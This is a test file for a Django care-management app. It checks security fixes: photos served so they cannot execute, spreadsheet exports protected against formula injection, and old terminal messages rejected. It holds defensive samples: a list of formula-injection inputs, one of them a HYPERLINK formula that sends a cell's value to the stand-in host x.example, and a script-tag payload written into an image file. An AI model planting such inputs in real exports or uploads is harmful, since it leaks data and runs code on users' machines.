"""Low findings of the security review of care (L1, L3, L4): visit photos served as images that
cannot run anything, export cells that cannot become formulas, and terminal messages with a
lower bound on their age (rejected:too_old, counted; a parked message keeps its age)."""

from __future__ import annotations

import io
import json
from datetime import date, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from cunshe.care import ingest
from cunshe.care.models import IngestCounter, ParkedEvent, TerminalEvent, Visit, VisitPhoto
from cunshe.care.services import terminals as terminal_services
from cunshe.care.tests.profiles_fixtures import *  # noqa: F403 (fixtures)
from cunshe.care.tests.profiles_fixtures import JPEG
from cunshe.care.tests.terminals_fixtures import *  # noqa: F403 (fixtures)
from cunshe.care.tests.terminals_fixtures import message

pytestmark = pytest.mark.django_db

EVENTS = "/api/v1/care/terminals/events"
NASTY = ['=HYPERLINK("http://x.example/?"&A1,"看")', "+1+cmd", "-2+3", "@SUM(1,1)", "\t=1+1"]


# --- L1: visit photos -------------------------------------------------------------------------


@pytest.fixture
def photo(client_as, family, make_profile, media, j_of):  # type: ignore[no-untyped-def]
    """A visit recorded on the page with one JPEG photo; its URL."""
    p = make_profile(family.grandmother, "elderly")
    r = client_as("clerk_a").post(
        reverse("care:visit_new", args=[p.pk]),
        {
            "visited_at": timezone.localtime().strftime("%Y-%m-%dT%H:%M"),
            "mode": "home",
            "findings": "老人身体尚可。",
            "photos": [SimpleUploadedFile("p.jpg", JPEG, "image/jpeg")],
        },
    )
    assert r.status_code == 302
    v = Visit.objects.within(j_of("clerk_a")).get()
    ph = v.photos.get()
    return ph, reverse("care:visit_photo", args=[v.pk, ph.pk])


def test_a_visit_photo_is_an_image_that_can_run_nothing(client_as, photo):
    _ph, url = photo
    r = client_as("clerk_a").get(url)
    assert r.status_code == 200 and b"".join(r.streaming_content) == JPEG
    assert r["Content-Type"] == "image/jpeg"
    assert r["X-Content-Type-Options"] == "nosniff"
    csp = r["Content-Security-Policy"]
    assert "default-src 'none'" in csp and "sandbox" in csp
    # Inline on purpose (the profile page shows it in an <img>), with a harmless file name.
    assert r["Content-Disposition"].startswith("inline;") and ".jpg" in r["Content-Disposition"]


def test_the_photo_type_comes_from_its_bytes_not_from_the_row(client_as, photo):
    ph, url = photo
    VisitPhoto.objects.filter(pk=ph.pk).update(content_type="text/html")
    r = client_as("clerk_a").get(url)
    assert r["Content-Type"] == "image/jpeg"
    # Bytes that are no image (a file swapped on disk) are never shown inline.
    with open(ph.file.path, "wb") as fh:
        fh.write(b"<html><script>alert(1)</script></html>")
    r = client_as("clerk_a").get(url)
    assert r.status_code == 200
    assert r["Content-Type"] == "application/octet-stream"
    assert r["Content-Disposition"].startswith("attachment;")
    assert "sandbox" in r["Content-Security-Policy"]


# --- L3: export cells -------------------------------------------------------------------------


def test_care_export_cells_never_become_formulas(client_as, register, make_profile):
    from openpyxl import load_workbook

    for n, name in enumerate(NASTY):
        person = register(name, date(1950, 1, 1 + n), relationship="99", seq=40 + n)
        make_profile(person, "elderly", guardian_name=NASTY[-1 - n])
    r = client_as("clerk_a").get(reverse("care:profile_export"))
    assert r.status_code == 200
    sheet = load_workbook(io.BytesIO(r.content)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert len(cells) > len(NASTY) and all(c.data_type != "f" for c in cells)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert {"'" + name for name in NASTY} <= texts
    assert not any(t.startswith(("=", "+", "-", "@", "\t")) for t in texts)


def test_one_formula_guard_for_every_export():  # type: ignore[no-untyped-def]
    from cunshe.core import spreadsheets, views
    from cunshe.residents import exporting

    assert spreadsheets.inert("=1+1") == "'=1+1" and spreadsheets.inert(3) == 3
    assert spreadsheets.inert("王-1") == "王-1" and spreadsheets.inert(None) is None
    assert exporting.inert is spreadsheets.inert and views.inert is spreadsheets.inert
    assert not hasattr(exporting, "_inert")


# --- L4: terminal messages' age ---------------------------------------------------------------


def test_a_message_older_than_the_bound_is_rejected_too_old_and_counted(terminal, settings):
    settings.CARE_RULES = {"MAX_EVENT_AGE_DAYS": 7}
    now = timezone.now()
    old = message(at=timezone.localtime(now) - timedelta(days=7, minutes=1))
    recent = message(at=timezone.localtime(now) - timedelta(days=6, hours=23))
    result = ingest.ingest_batch([old, recent], "http", now)
    assert [r.key for r in result.results] == ["rejected:too_old", "accepted"]
    assert list(TerminalEvent._base_manager.values_list("event_id", flat=True)) == [recent["id"]]
    assert IngestCounter.objects.get(outcome="rejected:too_old").count == 1


def test_the_bound_is_a_rule_and_holds_over_http_and_for_unknown_serials(client, settings):
    settings.CARE_RULES = {"MAX_EVENT_AGE_DAYS": 2}
    three_days = timezone.localtime() - timedelta(days=3)
    batch = [message("GHOST-1", secret="unknown", at=three_days), message("GHOST-2", secret="x")]
    r = client.post(EVENTS, data=json.dumps(batch), content_type="application/json")
    assert r.status_code == 200
    outcomes = [(x["outcome"], x.get("reason", "")) for x in r.json()["results"]]
    assert outcomes == [("rejected", "too_old"), ("parked", "")]
    assert list(ParkedEvent.objects.values_list("serial", flat=True)) == ["GHOST-2"]


def test_a_parked_message_is_aged_from_when_it_was_parked(cast, family, make_terminal, j_of):
    now = timezone.now()
    parked_at = now - timedelta(days=9)
    msg = message("LATE-0001", secret="late-secret", at=timezone.localtime(parked_at))
    assert ingest.ingest_batch([msg], "http", parked_at).results[0].key == "parked"
    # Waiting nine days for review does not make it too old: it was fresh when it came.
    make_terminal(family.grandmother, serial="LATE-0001", secret="late-secret")
    counts = terminal_services.parked_replay(
        actor=cast.system_admin, jurisdiction=j_of("system_admin"), serial="LATE-0001"
    )
    assert counts == {"accepted": 1}
    assert ParkedEvent.objects.get().outcome == "replayed:accepted"
